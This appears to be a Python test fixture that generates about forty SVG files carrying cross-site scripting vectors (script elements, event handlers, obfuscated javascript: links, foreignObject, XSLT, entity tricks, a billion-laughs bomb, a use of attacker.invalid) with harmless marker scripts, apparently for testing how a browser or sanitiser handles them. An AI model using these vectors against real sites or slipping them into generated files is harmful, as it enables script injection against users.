"""SVG files that run script when a browser opens them as they are.

Each vector's script marks that it ran three ways: it sets ``document.title`` to ``XSS``, it
requests ``/xss-<number>`` and it opens an ``alert``. Those in :data:`RUN_IN_CHROMIUM` run
when the file is opened on its own or clicked in Chromium (the others are for other and older
browsers); the browser test proves that its harness sees each of them run when the file is
served as it is.
"""

import base64

NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
XHTML = "http://www.w3.org/1999/xhtml"
DRAWING = '<rect width="100" height="100" fill="#0f5b3a"/>'


def payload(number: int) -> str:
    return f"document.title='XSS';fetch('/xss-{number}');alert('xss-{number}')"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def svg(body: str, *, attributes: str = "", prolog: str = "") -> str:
    return f'{prolog}<svg {NS} width="100" height="100" {attributes}>{body}</svg>'


# The vectors whose script Chromium runs when the file is opened as it is (some on a click).
RUN_IN_CHROMIUM = {
    "script element",
    "script with CDATA",
    "script from a data URL",
    "script by xlink:href",
    "svg:script with a namespace prefix",
    "onload on the root",
    "onload on a nested svg",
    "onerror on an image",
    "onbegin on animate",
    "onbegin on set",
    "onmouseover on a shape",
    "set href to javascript:",
    "a href javascript:",
    "a xlink:href javascript:",
    "href with a tab inside javascript:",
    "href entity-encoded and padded",
    "foreignObject iframe srcdoc",
    "foreignObject img onerror",
    "foreignObject HTML script",
    "foreignObject body onload",
    "foreignObject embed",
    "foreignObject object",
    "XHTML script straight in the SVG",
    "XHTML iframe straight in the SVG",
    "math with an XHTML script",
    "entity that expands to a script",
    "xml-stylesheet XSLT",
    "comment before the script",
    "onload with a byte order mark",
}


def _vectors() -> list[tuple[str, str, bool]]:
    """(name, SVG text, whether Chromium runs it); the script of vector n requests /xss-n."""
    p = payload
    v = []

    def add(name, make):
        v.append((name, make(len(v)), name in RUN_IN_CHROMIUM))

    add("script element", lambda n: svg(f"{DRAWING}<script>{p(n)}</script>"))
    add(
        "script with CDATA",
        lambda n: svg(f'{DRAWING}<script type="text/javascript"><![CDATA[{p(n)}]]></script>'),
    )
    add(
        "script from a data URL",
        lambda n: svg(f'{DRAWING}<script href="data:text/javascript;base64,{b64(p(n))}"/>'),
    )
    add(
        "script by xlink:href",
        lambda n: svg(f'{DRAWING}<script xlink:href="data:text/javascript,{p(n)}"/>'),
    )
    add(
        "svg:script with a namespace prefix",
        lambda n: svg(
            f'{DRAWING}<svg:script xmlns:svg="http://www.w3.org/2000/svg">{p(n)}</svg:script>'
        ),
    )
    add("uppercase SCRIPT", lambda n: svg(f"{DRAWING}<SCRIPT>{p(n)}</SCRIPT>"))
    add("onload on the root", lambda n: svg(DRAWING, attributes=f'onload="{p(n)}"'))
    add(
        "onload on a nested svg",
        lambda n: svg(f'<svg onload="{p(n)}">{DRAWING}</svg>'),
    )
    add(
        "onerror on an image",
        lambda n: svg(f'{DRAWING}<image href="/nothing-here.png" onerror="{p(n)}"/>'),
    )
    add(
        "onbegin on animate",
        lambda n: svg(
            f'{DRAWING}<animate attributeName="x" from="0" to="1" dur="1s" onbegin="{p(n)}"/>'
        ),
    )
    add(
        "onbegin on set",
        lambda n: svg(f'{DRAWING}<set attributeName="x" to="1" begin="0s" onbegin="{p(n)}"/>'),
    )
    add(
        "onbegin on discard",
        lambda n: svg(f'{DRAWING}<discard begin="0s" onbegin="{p(n)}"/>'),
    )
    add(
        "onmouseover on a shape",
        lambda n: svg(f'<rect width="100" height="100" onmouseover="{p(n)}"/>'),
    )
    add(
        "set href to javascript:",
        lambda n: svg(f'<a><set attributeName="href" to="javascript:{p(n)}"/>{DRAWING}</a>'),
    )
    add(
        "animate xlink:href to javascript:",
        lambda n: svg(
            f'<a xlink:href="#"><animate attributeName="xlink:href" values="javascript:{p(n)}" '
            f'dur="1s" fill="freeze"/>{DRAWING}</a>'
        ),
    )
    add("a href javascript:", lambda n: svg(f'<a href="javascript:{p(n)}">{DRAWING}</a>'))
    add(
        "a xlink:href javascript:",
        lambda n: svg(f'<a xlink:href="javascript:{p(n)}">{DRAWING}</a>'),
    )
    add(
        "href with a tab inside javascript:",
        lambda n: svg(f'<a href="java&#x09;script:{p(n)}">{DRAWING}</a>'),
    )
    add(
        "href entity-encoded and padded",
        lambda n: svg(f'<a href=" &#106;avascript&#58;{p(n)}">{DRAWING}</a>'),
    )
    add(
        "image href javascript:",
        lambda n: svg(f'{DRAWING}<image href="javascript:{p(n)}" width="10" height="10"/>'),
    )
    add(
        "foreignObject iframe srcdoc",
        lambda n: svg(
            f'{DRAWING}<foreignObject width="100" height="100">'
            f'<iframe xmlns="{XHTML}" srcdoc="&lt;script&gt;{p(n)}&lt;/script&gt;"/>'
            "</foreignObject>"
        ),
    )
    add(
        "foreignObject img onerror",
        lambda n: svg(
            f'{DRAWING}<foreignObject width="100" height="100">'
            f'<img xmlns="{XHTML}" src="/nothing-here.png" onerror="{p(n)}"/></foreignObject>'
        ),
    )
    add(
        "foreignObject HTML script",
        lambda n: svg(
            f'{DRAWING}<foreignObject><div xmlns="{XHTML}"><script>{p(n)}</script></div>'
            "</foreignObject>"
        ),
    )
    add(
        "foreignObject body onload",
        lambda n: svg(
            f'{DRAWING}<foreignObject><body xmlns="{XHTML}" onload="{p(n)}"/></foreignObject>'
        ),
    )

    def embedded(n):
        inner = b64(svg(DRAWING, attributes=f'onload="{p(n)}"'))
        return svg(
            f'{DRAWING}<foreignObject width="100" height="100"><embed xmlns="{XHTML}" '
            f'type="image/svg+xml" src="data:image/svg+xml;base64,{inner}"/></foreignObject>'
        )

    add("foreignObject embed", embedded)
    add(
        "foreignObject object",
        lambda n: svg(
            f'{DRAWING}<foreignObject width="100" height="100"><object xmlns="{XHTML}" '
            f'data="data:text/html;base64,{b64("<script>" + p(n) + "</script>")}"/>'
            "</foreignObject>"
        ),
    )
    add(
        "XHTML script straight in the SVG",
        lambda n: svg(f'{DRAWING}<html:script xmlns:html="{XHTML}">{p(n)}</html:script>'),
    )
    add(
        "XHTML iframe straight in the SVG",
        lambda n: svg(
            f'{DRAWING}<html:iframe xmlns:html="{XHTML}" '
            f'srcdoc="&lt;script&gt;{p(n)}&lt;/script&gt;"/>'
        ),
    )
    add(
        "math with an XHTML script",
        lambda n: svg(
            f'{DRAWING}<foreignObject><math xmlns="http://www.w3.org/1998/Math/MathML"><mtext>'
            f'<script xmlns="{XHTML}">{p(n)}</script></mtext></math></foreignObject>'
        ),
    )
    add(
        "math maction link",
        lambda n: svg(
            f'{DRAWING}<foreignObject><math xmlns="http://www.w3.org/1998/Math/MathML">'
            f'<maction actiontype="statusline" xlink:href="javascript:{p(n)}">'
            "<mtext>x</mtext></maction></math></foreignObject>"
        ),
    )

    def used(n):
        inner = b64(svg(DRAWING, attributes=f'id="a" onload="{p(n)}"'))
        return svg(f'{DRAWING}<use href="data:image/svg+xml;base64,{inner}#a"/>')

    add("use of a data: SVG", used)
    add(
        "use of an outside SVG",
        lambda n: svg(f'{DRAWING}<use href="http://attacker.invalid/x-{n}.svg#a"/>'),
    )
    add(
        "feImage href javascript:",
        lambda n: svg(
            f'<filter id="f"><feImage href="javascript:{p(n)}"/></filter>'
            f'<rect width="100" height="100" filter="url(#f)"/>'
        ),
    )
    add(
        "entity that expands to a script",
        lambda n: svg(
            f"{DRAWING}&x;",
            prolog=f'<!DOCTYPE svg [<!ENTITY x "<script>{p(n)}</script>">]>',
        ),
    )
    add(
        "escaped script as text",
        lambda n: svg(f"{DRAWING}<text>&lt;script&gt;{p(n)}&lt;/script&gt;</text>"),
    )
    add(
        "billion laughs",
        lambda n: svg(
            f"{DRAWING}<text>&l5;</text><script>{p(n)}</script>",
            prolog="<!DOCTYPE svg ["
            + '<!ENTITY l0 "lol">'
            + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 6))
            + "]>",
        ),
    )
    add(
        "xml-stylesheet XSLT",
        lambda n: svg(
            DRAWING,
            prolog='<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml;'
            "base64,"
            + b64(
                '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
                f'<xsl:template match="/"><html xmlns="{XHTML}"><script>{p(n)}</script></html>'
                "</xsl:template></xsl:stylesheet>"
            )
            + '"?>',
        ),
    )
    add(
        "style @import javascript:",
        lambda n: svg(f"<style>@import url(javascript:{p(n)});</style>{DRAWING}"),
    )
    add(
        "style url() javascript: in an attribute",
        lambda n: svg(f'<rect width="100" height="100" style="fill:url(javascript:{p(n)})"/>'),
    )
    add(
        "handler element (SVG Tiny)",
        lambda n: svg(
            f'{DRAWING}<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" '
            f'type="application/ecmascript">{p(n)}</handler>'
        ),
    )
    add(
        "comment before the script",
        lambda n: f"<!-- a badge -->{svg(f'{DRAWING}<!-- --><script>{p(n)}</script>')}",
    )
    add(
        "onload with a byte order mark",
        lambda n: "\ufeff" + svg(DRAWING, attributes=f'onload="{p(n)}"'),
    )
    return v


VECTORS = _vectors()
